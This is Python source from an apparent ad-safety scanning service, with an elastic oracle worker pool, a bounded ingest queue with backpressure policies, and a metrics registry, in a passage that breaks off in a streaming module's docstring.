    attempts: int = 0
    #: Gateway tenant this scan is attributed to (None = direct caller).
    tenant: Optional[str] = None


class WorkerCrashed(RuntimeError):
    """A worker's whole stack died (not just one scan).

    Raised by chaos/fault hooks to simulate the thread itself being lost
    (a segfaulting analysis VM, an OOM-killed sandbox host).  The worker
    hands its in-flight task back to the queue and lets the exception
    kill the thread; the pool's supervision decides whether to respawn.
    """


#: Test/chaos hook: called with (worker_index, task) before each scan
#: attempt; raising simulates that worker's oracle stack failing (raise
#: :class:`WorkerCrashed` to kill the whole worker thread instead).
ScanFaultHook = Callable[[int, "ScanTask"], None]


class ScanWorker(threading.Thread):
    """One oracle worker: private world + oracle, fed by the batcher.

    With a :class:`~repro.service.breaker.CircuitBreaker` attached, the
    worker refuses tasks while its breaker is open and hands them back via
    ``requeue`` (preserving queue position) so healthier workers pick them
    up; a failed scan is likewise requeued until the task's attempt budget
    (``max_attempts``) is spent, after which the error is surfaced.

    ``should_exit`` (when given) is polled between batches — never inside
    one — so an elastic pool can drain this worker at a task boundary.
    ``on_exit`` fires exactly once as the thread leaves ``run``, with the
    exception that killed it (or ``None`` for a clean exit).
    """

    #: Pause after a breaker-open refusal, so an all-open pool does not
    #: spin on the queue while cooling down.
    REQUEUE_PAUSE = 0.005

    def __init__(
        self,
        index: int,
        config: StudyConfig,
        next_batch: Callable[[], Optional[list]],
        on_result: Callable[[ScanTask, Optional[AdVerdict], Optional[BaseException]], None],
        on_batch: Optional[Callable[[int], None]] = None,
        breaker: Optional[CircuitBreaker] = None,
        requeue: Optional[Callable[[ScanTask], bool]] = None,
        max_attempts: int = 1,
        fault_hook: Optional[ScanFaultHook] = None,
        on_retry: Optional[Callable[[ScanTask], None]] = None,
        should_exit: Optional[Callable[["ScanWorker"], bool]] = None,
        on_exit: Optional[Callable[["ScanWorker", Optional[BaseException]], None]] = None,
    ) -> None:
        super().__init__(name=f"scan-worker-{index}", daemon=True)
        if max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        self.index = index
        self._config = config
        self._next_batch = next_batch
        self._on_result = on_result
        self._on_batch = on_batch
        self.breaker = breaker
        self._requeue = requeue
        self._max_attempts = max_attempts
        self._fault_hook = fault_hook
        self._on_retry = on_retry
        self._should_exit = should_exit
        self._on_exit = on_exit
        self.world: Optional[World] = None
        self.oracle: Optional[CombinedOracle] = None
        self.scanned = 0
        #: Why the thread left run(): "closed", "retired", or "crashed".
        self.exit_reason: Optional[str] = None

    def _build_stack(self) -> None:
        # Built inside the thread so pool start-up is parallel and the
        # main thread never touches worker state.
        self.world = build_world(self._config.seed, self._config.world_params)
        self.oracle = Study(self._config, world=self.world).build_oracle()

    def run(self) -> None:
        crash: Optional[BaseException] = None
        try:
            self._build_stack()
            assert self.world is not None and self.oracle is not None
            while True:
                if self._should_exit is not None and self._should_exit(self):
                    self.exit_reason = "retired"
                    return
                batch = self._next_batch()
                if batch is None:
                    self.exit_reason = "closed"
                    return
                if not batch:
                    # Idle poll tick (elastic pools feed workers through a
                    # timed batcher so retirement is noticed while idle).
                    continue
                if self._on_batch is not None:
                    self._on_batch(len(batch))
                refused = False
                for task in batch:
                    refused |= self._process(task)
                if refused:
                    time.sleep(self.REQUEUE_PAUSE)
        except BaseException as exc:
            self.exit_reason = "crashed"
            crash = exc
        finally:
            if self._on_exit is not None:
                self._on_exit(self, crash)

    def _process(self, task: ScanTask) -> bool:
        """Scan one task; returns True if it was refused (breaker open)."""
        if self.breaker is not None and not self.breaker.allow():
            # Hand the task back untouched — refusal is not an attempt.
            if self._requeue is not None and self._requeue(task):
                return True
            self._on_result(task, None, BreakerOpenError(
                f"worker {self.index} breaker open and queue closed"))
            return False
        task.attempts += 1
        try:
            if self._fault_hook is not None:
                self._fault_hook(self.index, task)
            verdict = hermetic_judge(self.oracle, self.world,
                                     task.record, self._config.seed)
        except WorkerCrashed as exc:
            # The whole worker is gone, not just this scan: hand the task
            # back (it keeps its queue position and did not burn a retry
            # beyond this attempt) and let the crash kill the thread.
            task.attempts -= 1
            if self._requeue is None or not self._requeue(task):
                self._on_result(task, None, exc)
            raise
        except BaseException as exc:  # surface, never kill the pool
            if self.breaker is not None:
                self.breaker.record_failure()
            if (task.attempts < self._max_attempts
                    and self._requeue is not None and self._requeue(task)):
                if self._on_retry is not None:
                    self._on_retry(task)
                return False
            self._on_result(task, None, exc)
        else:
            if self.breaker is not None:
                self.breaker.record_success()
            self.scanned += 1
            self._on_result(task, verdict, None)
        return False


class OracleWorkerPool:
    """An elastic pool of :class:`ScanWorker` threads.

    The pool manages lifecycle (start, scale, respawn, drain, join); work
    flows through the callables handed to each worker, which keeps the
    pool reusable and the service facade in charge of queue/cache/metrics
    wiring.

    Scaling contract:

    * :meth:`scale_to` never interrupts a batch — growth spawns fresh
      workers immediately; shrinkage hands out retire tokens that idle
      workers claim between batches (so scale-down drains, never drops);
    * a crashed worker is respawned while ``restarts_used <
      max_restarts``; a crash with retire tokens outstanding consumes a
      token instead of a restart (the pool wanted to shrink anyway);
    * :attr:`size` is the *logical* size (roster minus unclaimed retire
      tokens) — what the pool is converging to; :attr:`alive` counts OS
      threads still running, including ones mid-exit.
    """

    def __init__(
        self,
        n_workers: int,
        config: StudyConfig,
        next_batch: Callable[[], Optional[list]],
        on_result: Callable[[ScanTask, Optional[AdVerdict], Optional[BaseException]], None],
        on_batch: Optional[Callable[[int], None]] = None,
        breaker_threshold: Optional[int] = None,
        breaker_cooldown: float = 0.2,
        requeue: Optional[Callable[[ScanTask], bool]] = None,
        max_attempts: int = 1,
        fault_hook: Optional[ScanFaultHook] = None,
        on_retry: Optional[Callable[[ScanTask], None]] = None,
        max_workers: Optional[int] = None,
        max_restarts: int = 0,
    ) -> None:
        if n_workers <= 0:
            raise ValueError("n_workers must be positive")
        if max_workers is not None and max_workers < n_workers:
            raise ValueError("max_workers must be >= n_workers")
        if max_restarts < 0:
            raise ValueError("max_restarts must be non-negative")
        self._config = config
        self._next_batch = next_batch
        self._on_result = on_result
        self._on_batch = on_batch
        self._breaker_threshold = breaker_threshold
        self._breaker_cooldown = breaker_cooldown
        self._requeue = requeue
        self._max_attempts = max_attempts
        self._fault_hook = fault_hook
        self._on_retry = on_retry
        self.max_workers = max_workers
        self.max_restarts = max_restarts

        self._lock = threading.Lock()
        self._started = False
        self._closed = False
        self._roster: list[ScanWorker] = []
        self._all: list[ScanWorker] = []
        self._retire_tokens = 0
        self._next_index = 0
        self.restarts_used = 0
        self.spawned_total = 0
        self.retired_total = 0
        self.crashed_total = 0
        self.peak_size = n_workers
        self.min_size = n_workers
        for _ in range(n_workers):
            self._spawn_locked()

    # -- construction helpers ------------------------------------------------

    def _spawn_locked(self) -> ScanWorker:
        """Create one worker (caller holds the lock or is __init__)."""
        index = self._next_index
        self._next_index += 1
        breaker = None
        if self._breaker_threshold is not None:
            breaker = CircuitBreaker(threshold=self._breaker_threshold,
                                     cooldown=self._breaker_cooldown)
        worker = ScanWorker(
            index, self._config, self._next_batch, self._on_result,
            self._on_batch, breaker=breaker, requeue=self._requeue,
            max_attempts=self._max_attempts, fault_hook=self._fault_hook,
            on_retry=self._on_retry, should_exit=self._claim_retirement,
            on_exit=self._on_worker_exit,
        )
        self._roster.append(worker)
        self._all.append(worker)
        self.spawned_total += 1
        if self._started:
            worker.start()
        return worker

    # -- lifecycle -----------------------------------------------------------

    def start(self) -> None:
        with self._lock:
            if self._started:
                return
            self._started = True
            workers = list(self._roster)
        for worker in workers:
            worker.start()

    def shutdown(self) -> None:
        """Stop supervising: no more respawns or scaling (idempotent).

        Call before closing the ingest queue so a worker exiting on queue
        closure is not mistaken for a crash worth respawning.
        """
        with self._lock:
            self._closed = True
            self._retire_tokens = 0

    def join(self, timeout: Optional[float] = None) -> None:
        """Wait for every worker ever spawned to exit."""
        deadline = None if timeout is None else time.monotonic() + timeout
        while True:
            with self._lock:
                workers = list(self._all)
            for worker in workers:
                remaining = None
                if deadline is not None:
                    remaining = max(0.0, deadline - time.monotonic())
                worker.join(remaining)
            # A respawn may have raced the join; loop until the set is
            # stable and everything in it is dead (or the deadline hits).
            with self._lock:
                done = all(not w.is_alive() for w in self._all)
            if done or (deadline is not None and time.monotonic() >= deadline):
                return

    # -- elasticity ----------------------------------------------------------

    @property
    def size(self) -> int:
        """Logical pool size: roster minus unclaimed retire tokens."""
        with self._lock:
            return len(self._roster) - self._retire_tokens

    def scale_to(self, n_workers: int) -> int:
        """Converge the pool toward ``n_workers``; returns the new target.

        Growth cancels pending retirements first, then spawns.  Shrinkage
        hands out retire tokens; the pool never drops below one worker.
        """
        if n_workers < 1:
            raise ValueError("cannot scale below one worker")
        if self.max_workers is not None:
            n_workers = min(n_workers, self.max_workers)
        with self._lock:
            if self._closed:
                return len(self._roster) - self._retire_tokens
            current = len(self._roster) - self._retire_tokens
            if n_workers > current:
                grow = n_workers - current
                cancelled = min(grow, self._retire_tokens)
                self._retire_tokens -= cancelled
                for _ in range(grow - cancelled):
                    self._spawn_locked()
            elif n_workers < current:
                self._retire_tokens += current - n_workers
            return self._note_size_locked()

    def _note_size_locked(self) -> int:
        size = len(self._roster) - self._retire_tokens
        if size > self.peak_size:
            self.peak_size = size
        if size < self.min_size:
            self.min_size = size
        return size

    def _claim_retirement(self, worker: ScanWorker) -> bool:
        """Worker-side poll: claim one retire token at a batch boundary."""
        with self._lock:
            if self._retire_tokens <= 0 or worker not in self._roster:
                return False
            self._retire_tokens -= 1
            self._roster.remove(worker)
            self.retired_total += 1
            return True

    def _on_worker_exit(self, worker: ScanWorker,
                        crash: Optional[BaseException]) -> None:
        """Thread-exit supervision: bookkeeping plus crash respawn."""
        with self._lock:
            in_roster = worker in self._roster
            if in_roster:
                self._roster.remove(worker)
            if crash is None:
                return
            self.crashed_total += 1
            if not in_roster or self._closed:
                return
            if self._retire_tokens > 0:
                # The pool wanted to shrink anyway: the crash satisfies a
                # pending retirement and costs no restart budget.
                self._retire_tokens -= 1
                self.retired_total += 1
                return
            if self.restarts_used < self.max_restarts:
                self.restarts_used += 1
                self._spawn_locked()
            self._note_size_locked()

    # -- introspection -------------------------------------------------------

    @property
    def workers(self) -> list[ScanWorker]:
        """The current roster (live, non-retired workers)."""
        with self._lock:
            return list(self._roster)

    @property
    def breakers(self) -> list[CircuitBreaker]:
        with self._lock:
            return [w.breaker for w in self._roster if w.breaker is not None]

    @property
    def alive(self) -> int:
        """OS threads still running, across every worker ever spawned."""
        with self._lock:
            return sum(1 for worker in self._all if worker.is_alive())

    @property
    def total_scanned(self) -> int:
        """Scans completed, including by retired and crashed workers."""
        with self._lock:
            return sum(worker.scanned for worker in self._all)

    @property
    def all_breakers_open(self) -> bool:
        """True when breakers exist and *none* will admit a task right now.

        Half-open counts as available (a probe could run), so this is the
        strict "no worker can possibly serve a scan" condition the service
        uses to enter degraded mode.
        """
        breakers = self.breakers
        if not breakers:
            return False
        return all(breaker.state == "open" for breaker in breakers)

    def breaker_stats(self) -> list[dict]:
        return [breaker.stats() for breaker in self.breakers]

    def stats(self) -> dict:
        with self._lock:
            return {
                "size": len(self._roster) - self._retire_tokens,
                "roster": len(self._roster),
                "peak_size": self.peak_size,
                "min_size": self.min_size,
                "max_workers": self.max_workers,
                "spawned_total": self.spawned_total,
                "retired_total": self.retired_total,
                "crashed_total": self.crashed_total,
                "restarts_used": self.restarts_used,
                "max_restarts": self.max_restarts,
                "pending_retirements": self._retire_tokens,
            }
