"""The oracle worker pool: threaded, isolated, deterministic.

Every worker owns a **complete private copy** of the scanning stack — its
own simulated world built from the service seed plus its own
:class:`~repro.core.oracle.CombinedOracle` — so concurrent scans share no
mutable state at all (the simulated web's servers, the Wepawet sample
registry and the HAR observer list are all per-world).

Determinism is the second half of the contract.  Three pieces of scan
state are order-dependent in the batch pipeline: the ecosystem's
per-request counter (cloaking rotation), the Wepawet sample counter, and
the browser's script RNG stream.  :func:`hermetic_judge` pins all three
to values derived from the creative's content hash before every scan, so
the verdict for a creative is a pure function of ``(seed, world params,
creative)`` — identical across scan orders, worker counts, and to a
batch :class:`CombinedOracle` pass driven through the same discipline.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.oracle import AdVerdict, CombinedOracle
from repro.core.study import Study, StudyConfig
from repro.crawler.corpus import AdRecord
from repro.datasets.world import World, build_world
from repro.service.breaker import BreakerOpenError, CircuitBreaker
from repro.util.rand import fork

# Scan-time counter values start far above anything a crawl mints, so a
# scan's cloaking draws never collide with crawl-time draws.
_SCAN_COUNTER_BASE = 0x4000_0000


def scan_counter_for(content_hash: str) -> int:
    """Canonical per-creative request-counter base (pure in the hash)."""
    return _SCAN_COUNTER_BASE + int(content_hash[:8], 16)


def hermetic_judge(oracle: CombinedOracle, world: World, record: AdRecord,
                   seed: int) -> AdVerdict:
    """Judge ``record`` as a pure function of ``(seed, world, record)``.

    Pins every piece of order-dependent scan state to values derived from
    the creative's content hash, then delegates to ``oracle.judge``.  Use
    this for service workers *and* for the batch baseline they are
    compared against.
    """
    world.ecosystem.seed_request_counter(scan_counter_for(record.content_hash))
    # Sample ids feed the verdict's Wepawet report; derive them from the
    # creative so they match across runs (the counter is pre-increment).
    world.client._wepawet_counter = int(record.content_hash[:6], 16)  # type: ignore[attr-defined]
    oracle.wepawet.browser._script_random = fork(
        seed, f"scan:{record.content_hash}").random
    return oracle.judge(record)


@dataclass
class ScanTask:
    """One unit of worker input: a snapshotted record plus bookkeeping."""

    record: AdRecord
    submitted_at: float
    #: How many scan attempts this task has consumed (across workers).
    attempts: int = 0
    #: Gateway tenant this scan is attributed to (None = direct caller).
    tenant: Optional[str] = None


#: Test/chaos hook: called with (worker_index, task) before each scan
#: attempt; raising simulates that worker's oracle stack failing.
ScanFaultHook = Callable[[int, ScanTask], None]


class ScanWorker(threading.Thread):
    """One oracle worker: private world + oracle, fed by the batcher.

    With a :class:`~repro.service.breaker.CircuitBreaker` attached, the
    worker refuses tasks while its breaker is open and hands them back via
    ``requeue`` (preserving queue position) so healthier workers pick them
    up; a failed scan is likewise requeued until the task's attempt budget
    (``max_attempts``) is spent, after which the error is surfaced.
    """

    #: Pause after a breaker-open refusal, so an all-open pool does not
    #: spin on the queue while cooling down.
    REQUEUE_PAUSE = 0.005

    def __init__(
        self,
        index: int,
        config: StudyConfig,
        next_batch: Callable[[], Optional[list]],
        on_result: Callable[[ScanTask, Optional[AdVerdict], Optional[BaseException]], None],
        on_batch: Optional[Callable[[int], None]] = None,
        breaker: Optional[CircuitBreaker] = None,
        requeue: Optional[Callable[[ScanTask], bool]] = None,
        max_attempts: int = 1,
        fault_hook: Optional[ScanFaultHook] = None,
        on_retry: Optional[Callable[[ScanTask], None]] = None,
    ) -> None:
        super().__init__(name=f"scan-worker-{index}", daemon=True)
        if max_attempts < 1:
            raise ValueError("max_attempts must be >= 1")
        self.index = index
        self._config = config
        self._next_batch = next_batch
        self._on_result = on_result
        self._on_batch = on_batch
        self.breaker = breaker
        self._requeue = requeue
        self._max_attempts = max_attempts
        self._fault_hook = fault_hook
        self._on_retry = on_retry
        self.world: Optional[World] = None
        self.oracle: Optional[CombinedOracle] = None
        self.scanned = 0

    def _build_stack(self) -> None:
        # Built inside the thread so pool start-up is parallel and the
        # main thread never touches worker state.
        self.world = build_world(self._config.seed, self._config.world_params)
        self.oracle = Study(self._config, world=self.world).build_oracle()

    def run(self) -> None:
        self._build_stack()
        assert self.world is not None and self.oracle is not None
        while True:
            batch = self._next_batch()
            if batch is None:
                return
            if self._on_batch is not None:
                self._on_batch(len(batch))
            refused = False
            for task in batch:
                refused |= self._process(task)
            if refused:
                time.sleep(self.REQUEUE_PAUSE)

    def _process(self, task: ScanTask) -> bool:
        """Scan one task; returns True if it was refused (breaker open)."""
        if self.breaker is not None and not self.breaker.allow():
            # Hand the task back untouched — refusal is not an attempt.
            if self._requeue is not None and self._requeue(task):
                return True
            self._on_result(task, None, BreakerOpenError(
                f"worker {self.index} breaker open and queue closed"))
            return False
        task.attempts += 1
        try:
            if self._fault_hook is not None:
                self._fault_hook(self.index, task)
            verdict = hermetic_judge(self.oracle, self.world,
                                     task.record, self._config.seed)
        except BaseException as exc:  # surface, never kill the pool
            if self.breaker is not None:
                self.breaker.record_failure()
            if (task.attempts < self._max_attempts
                    and self._requeue is not None and self._requeue(task)):
                if self._on_retry is not None:
                    self._on_retry(task)
                return False
            self._on_result(task, None, exc)
        else:
            if self.breaker is not None:
                self.breaker.record_success()
            self.scanned += 1
            self._on_result(task, verdict, None)
        return False


class OracleWorkerPool:
    """A fixed-size pool of :class:`ScanWorker` threads.

    The pool only manages lifecycle (start, drain, join); work flows
    through the callables handed to each worker, which keeps the pool
    reusable and the service facade in charge of queue/cache/metrics
    wiring.
    """

    def __init__(
        self,
        n_workers: int,
        config: StudyConfig,
        next_batch: Callable[[], Optional[list]],
        on_result: Callable[[ScanTask, Optional[AdVerdict], Optional[BaseException]], None],
        on_batch: Optional[Callable[[int], None]] = None,
        breaker_threshold: Optional[int] = None,
        breaker_cooldown: float = 0.2,
        requeue: Optional[Callable[[ScanTask], bool]] = None,
        max_attempts: int = 1,
        fault_hook: Optional[ScanFaultHook] = None,
        on_retry: Optional[Callable[[ScanTask], None]] = None,
    ) -> None:
        if n_workers <= 0:
            raise ValueError("n_workers must be positive")
        self.breakers: list[CircuitBreaker] = []
        if breaker_threshold is not None:
            self.breakers = [
                CircuitBreaker(threshold=breaker_threshold,
                               cooldown=breaker_cooldown)
                for _ in range(n_workers)
            ]
        self.workers = [
            ScanWorker(
                index, config, next_batch, on_result, on_batch,
                breaker=self.breakers[index] if self.breakers else None,
                requeue=requeue, max_attempts=max_attempts,
                fault_hook=fault_hook, on_retry=on_retry,
            )
            for index in range(n_workers)
        ]

    def start(self) -> None:
        for worker in self.workers:
            worker.start()

    def join(self, timeout: Optional[float] = None) -> None:
        """Wait for every worker to exit (they exit when the queue closes)."""
        deadline = None if timeout is None else time.monotonic() + timeout
        for worker in self.workers:
            remaining = None
            if deadline is not None:
                remaining = max(0.0, deadline - time.monotonic())
            worker.join(remaining)

    @property
    def alive(self) -> int:
        return sum(1 for worker in self.workers if worker.is_alive())

    @property
    def total_scanned(self) -> int:
        return sum(worker.scanned for worker in self.workers)

    @property
    def all_breakers_open(self) -> bool:
        """True when breakers exist and *none* will admit a task right now.

        Half-open counts as available (a probe could run), so this is the
        strict "no worker can possibly serve a scan" condition the service
        uses to enter degraded mode.
        """
        if not self.breakers:
            return False
        return all(breaker.state == "open" for breaker in self.breakers)

    def breaker_stats(self) -> list[dict]:
        return [breaker.stats() for breaker in self.breakers]
