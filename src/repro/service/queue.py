"""Bounded ingest queue with explicit backpressure policies.

A scanning service fed by a crawler (or by live ad traffic) must decide
what happens when submissions outpace the oracle workers.  The queue
supports the two classic answers:

* ``block`` — the producer waits for space (load-shedding upstream:
  the crawler slows down to the oracle's pace);
* ``reject`` — a full queue raises :class:`QueueFullError` immediately
  (load-shedding at the edge: the caller decides whether to retry,
  sample, or drop).

Both policies are observable: the queue counts accepted, rejected and
drained items, and exposes its current depth for the service gauge.
"""

from __future__ import annotations

import threading
import time
from collections import deque
from typing import Any, Callable, Optional

POLICY_BLOCK = "block"
POLICY_REJECT = "reject"
POLICIES = (POLICY_BLOCK, POLICY_REJECT)


class QueueFullError(RuntimeError):
    """Raised when a ``reject``-policy queue is full (or a block times out)."""


class QueueClosedError(RuntimeError):
    """Raised when putting into a queue that has been closed."""


class IngestQueue:
    """A bounded FIFO with selectable backpressure behaviour."""

    def __init__(self, capacity: int = 256, policy: str = POLICY_BLOCK,
                 wait_observer: Optional[Callable[[float], None]] = None) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        if policy not in POLICIES:
            raise ValueError(f"unknown backpressure policy: {policy!r} "
                             f"(expected one of {POLICIES})")
        self.capacity = capacity
        self.policy = policy
        self._items: deque = deque()
        self._mutex = threading.Lock()
        self._not_empty = threading.Condition(self._mutex)
        self._not_full = threading.Condition(self._mutex)
        self._closed = False
        self.accepted = 0
        self.rejected = 0
        self.drained = 0
        self.requeued = 0
        #: Deepest the queue has ever been — under an overlapped streamed
        #: crawl this is the backpressure record: how far submissions ran
        #: ahead of the oracle workers at the worst moment.
        self.high_water = 0
        #: Enqueue-latency accounting: how long accepted ``put`` calls had
        #: to wait for space.  This is the saturation signal an autoscaler
        #: reads — depth says how far behind the pool is, the wait says
        #: how much producers are actually being stalled.
        self.enqueue_waits = 0
        self.enqueue_wait_total = 0.0
        self.enqueue_wait_max = 0.0
        #: Called with the seconds each accepted put spent waiting (0.0
        #: for an immediate accept) — the service feeds its
        #: ``enqueue_wait`` histogram through this without the queue
        #: knowing about metrics.
        self._wait_observer = wait_observer

    # -- producer side -------------------------------------------------------

    def put(self, item: Any, timeout: Optional[float] = None) -> None:
        """Enqueue ``item``, applying the configured backpressure policy.

        Raises :class:`QueueFullError` when rejected (``reject`` policy and
        full, or ``block`` policy and the wait timed out) and
        :class:`QueueClosedError` after :meth:`close`.
        """
        waited = 0.0
        with self._not_full:
            if self._closed:
                raise QueueClosedError("queue is closed")
            if len(self._items) >= self.capacity:
                if self.policy == POLICY_REJECT:
                    self.rejected += 1
                    raise QueueFullError(
                        f"queue full ({self.capacity} items, policy=reject)")
                wait_started = time.monotonic()
                deadline = None if timeout is None else wait_started + timeout
                while len(self._items) >= self.capacity and not self._closed:
                    remaining = None
                    if deadline is not None:
                        remaining = deadline - time.monotonic()
                        if remaining <= 0:
                            self.rejected += 1
                            raise QueueFullError(
                                f"queue full after {timeout}s (policy=block)")
                    self._not_full.wait(remaining)
                if self._closed:
                    raise QueueClosedError("queue closed while waiting for space")
                waited = time.monotonic() - wait_started
                self.enqueue_waits += 1
                self.enqueue_wait_total += waited
                if waited > self.enqueue_wait_max:
                    self.enqueue_wait_max = waited
            self._items.append(item)
            self.accepted += 1
            if len(self._items) > self.high_water:
                self.high_water = len(self._items)
            self._not_empty.notify()
        if self._wait_observer is not None:
            self._wait_observer(waited)

    def requeue(self, item: Any) -> bool:
        """Put ``item`` back at the *front* of the queue.

        Used by workers handing back work they cannot finish (retry after
        a scan fault, or a breaker-open refusal): the item keeps its place
        at the head of the line instead of starting over, and capacity is
        deliberately ignored — the item already consumed its slot once and
        rejecting it now would drop accepted work.  Returns ``False`` when
        the queue is closed (shutdown: the caller must fail the item
        instead of re-enqueueing it).
        """
        with self._mutex:
            if self._closed:
                return False
            self._items.appendleft(item)
            self.requeued += 1
            if len(self._items) > self.high_water:
                self.high_water = len(self._items)
            self._not_empty.notify()
            return True

    def close(self) -> None:
        """Stop accepting items; wakes every waiter.  Idempotent."""
        with self._mutex:
            self._closed = True
            self._not_empty.notify_all()
            self._not_full.notify_all()

    # -- consumer side -------------------------------------------------------

    def get(self, timeout: Optional[float] = None) -> Optional[Any]:
        """Dequeue one item.

        Returns ``None`` when nothing arrived within ``timeout`` or when the
        queue is closed and drained (consumers use that as their exit
        signal).  ``timeout=None`` waits until an item arrives or the queue
        closes.
        """
        with self._not_empty:
            deadline = None if timeout is None else time.monotonic() + timeout
            while not self._items:
                if self._closed:
                    return None
                remaining = None
                if deadline is not None:
                    remaining = deadline - time.monotonic()
                    if remaining <= 0:
                        return None
                self._not_empty.wait(remaining)
            item = self._items.popleft()
            self.drained += 1
            self._not_full.notify()
            return item

    # -- introspection -------------------------------------------------------

    @property
    def depth(self) -> int:
        return len(self._items)

    @property
    def closed(self) -> bool:
        return self._closed

    def __len__(self) -> int:
        return len(self._items)

    def stats(self) -> dict:
        return {
            "depth": len(self._items),
            "capacity": self.capacity,
            "policy": self.policy,
            "accepted": self.accepted,
            "rejected": self.rejected,
            "drained": self.drained,
            "requeued": self.requeued,
            "high_water": self.high_water,
            "enqueue_waits": self.enqueue_waits,
            "enqueue_wait_total": round(self.enqueue_wait_total, 6),
            "enqueue_wait_max": round(self.enqueue_wait_max, 6),
            "closed": self._closed,
        }
