"""Lightweight service metrics: counters, gauges, latency histograms.

The scanning service is meant to run continuously, so its observable
state cannot live in return values alone.  The registry here is the
smallest useful subset of a Prometheus-style client: named counters
(monotonic), gauges (set-to-current), and histograms (bounded sample
reservoirs with percentile summaries), all snapshotable as one plain
dict for reports, tests and the CLI.
"""

from __future__ import annotations

import threading
from typing import Optional

# Histograms keep at most this many observations; once full, new samples
# overwrite the oldest (a sliding window, which is what a live service
# wants its latency percentiles computed over anyway).
HISTOGRAM_WINDOW = 8192


class Counter:
    """A monotonically increasing named value."""

    def __init__(self, name: str) -> None:
        self.name = name
        self._value = 0
        self._lock = threading.Lock()

    def inc(self, amount: int = 1) -> None:
        if amount < 0:
            raise ValueError("counters only go up")
        with self._lock:
            self._value += amount

    @property
    def value(self) -> int:
        return self._value


class Gauge:
    """A named value that tracks a current level (queue depth, pool size).

    Alongside the current level the gauge remembers its *peak* — the
    highest level ever set.  For levels that spike and recede between
    snapshots (queue depth under a bursty streamed crawl, concurrently
    active crawls) the peak is the only record that the spike happened.
    """

    def __init__(self, name: str) -> None:
        self.name = name
        self._value = 0.0
        self._peak = 0.0
        self._lock = threading.Lock()

    def set(self, value: float) -> None:
        with self._lock:
            self._value = float(value)
            if self._value > self._peak:
                self._peak = self._value

    def inc(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value += amount
            if self._value > self._peak:
                self._peak = self._value

    def dec(self, amount: float = 1.0) -> None:
        with self._lock:
            self._value -= amount

    @property
    def value(self) -> float:
        return self._value

    @property
    def peak(self) -> float:
        return self._peak


class Histogram:
    """A sliding-window sample reservoir with percentile summaries."""

    def __init__(self, name: str, window: int = HISTOGRAM_WINDOW) -> None:
        if window <= 0:
            raise ValueError("window must be positive")
        self.name = name
        self._window = window
        self._samples: list[float] = []
        self._next = 0  # ring-buffer write position once the window is full
        self._count = 0
        self._total = 0.0
        self._lock = threading.Lock()

    def observe(self, value: float) -> None:
        value = float(value)
        with self._lock:
            self._count += 1
            self._total += value
            if len(self._samples) < self._window:
                self._samples.append(value)
            else:
                self._samples[self._next] = value
                self._next = (self._next + 1) % self._window

    @property
    def count(self) -> int:
        return self._count

    @property
    def total(self) -> float:
        return self._total

    @property
    def mean(self) -> float:
        return self._total / self._count if self._count else 0.0

    @property
    def p50(self) -> float:
        """Median of the retained window (autoscaler / report shorthand)."""
        return self.percentile(50.0)

    @property
    def p95(self) -> float:
        return self.percentile(95.0)

    @property
    def p99(self) -> float:
        return self.percentile(99.0)

    def percentile(self, q: float) -> float:
        """The ``q``-th percentile (0..100) of the retained window."""
        if not 0.0 <= q <= 100.0:
            raise ValueError("percentile must be in [0, 100]")
        with self._lock:
            samples = sorted(self._samples)
        if not samples:
            return 0.0
        rank = (q / 100.0) * (len(samples) - 1)
        lower = int(rank)
        upper = min(lower + 1, len(samples) - 1)
        fraction = rank - lower
        return samples[lower] * (1.0 - fraction) + samples[upper] * fraction

    def summary(self) -> dict:
        with self._lock:
            samples = sorted(self._samples)
            count, total = self._count, self._total
        if not samples:
            return {"count": 0, "mean": 0.0, "min": 0.0, "max": 0.0,
                    "p50": 0.0, "p95": 0.0, "p99": 0.0}

        def pct(q: float) -> float:
            rank = (q / 100.0) * (len(samples) - 1)
            lower = int(rank)
            upper = min(lower + 1, len(samples) - 1)
            fraction = rank - lower
            return samples[lower] * (1.0 - fraction) + samples[upper] * fraction

        return {
            "count": count,
            "mean": total / count,
            "min": samples[0],
            "max": samples[-1],
            "p50": pct(50.0),
            "p95": pct(95.0),
            "p99": pct(99.0),
        }


class MetricsRegistry:
    """Create-or-get registry for all of a service's metrics."""

    def __init__(self) -> None:
        self._counters: dict[str, Counter] = {}
        self._gauges: dict[str, Gauge] = {}
        self._histograms: dict[str, Histogram] = {}
        self._lock = threading.Lock()

    def counter(self, name: str) -> Counter:
        with self._lock:
            metric = self._counters.get(name)
            if metric is None:
                metric = self._counters[name] = Counter(name)
            return metric

    def gauge(self, name: str) -> Gauge:
        with self._lock:
            metric = self._gauges.get(name)
            if metric is None:
                metric = self._gauges[name] = Gauge(name)
            return metric

    def histogram(self, name: str, window: Optional[int] = None) -> Histogram:
        with self._lock:
            metric = self._histograms.get(name)
            if metric is None:
                metric = Histogram(name, window or HISTOGRAM_WINDOW)
                self._histograms[name] = metric
            return metric

    def rollup(self, prefix: str) -> dict:
        """Counters/gauges under ``prefix``, keyed by the stripped suffix.

        Namespaced metric families (the gateway's per-tenant counters
        live at ``tenant.<id>.<name>``) read back as one small dict:
        ``rollup("tenant.acme.")`` → ``{"submitted": 3, ...}``.  Gauges
        only appear when no counter claims the same suffix.
        """
        with self._lock:
            counters = {name[len(prefix):]: c.value
                        for name, c in sorted(self._counters.items())
                        if name.startswith(prefix)}
            gauges = {name[len(prefix):]: g.value
                      for name, g in sorted(self._gauges.items())
                      if name.startswith(prefix)}
        gauges.update(counters)
        return gauges

    def snapshot(self) -> dict:
        """Everything, as one nested plain dict (stable across calls)."""
        with self._lock:
            counters = dict(self._counters)
            gauges = dict(self._gauges)
            histograms = dict(self._histograms)
        return {
            "counters": {name: c.value for name, c in sorted(counters.items())},
            "gauges": {name: g.value for name, g in sorted(gauges.items())},
            "gauge_peaks": {name: g.peak for name, g in sorted(gauges.items())},
            "histograms": {name: h.summary() for name, h in sorted(histograms.items())},
        }
