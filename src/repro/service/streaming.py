"""Crawler → service streaming: classify ads while the crawl runs.

The batch pipeline waits for the whole crawl before the oracle sees a
single ad; a real ad-safety service cannot.  This module wires a crawl
directly into a :class:`~repro.service.service.ScanService` so that
scanning overlaps crawling:

* a serial :class:`~repro.crawler.crawler.Crawler` crawls into a
  :class:`StreamingCorpus`, which sights every newly seen creative the
  moment its first impression is recorded;
* a :class:`~repro.crawler.parallel.ParallelCrawler` goes further —
  every shard worker pushes its shard-local first sights through a
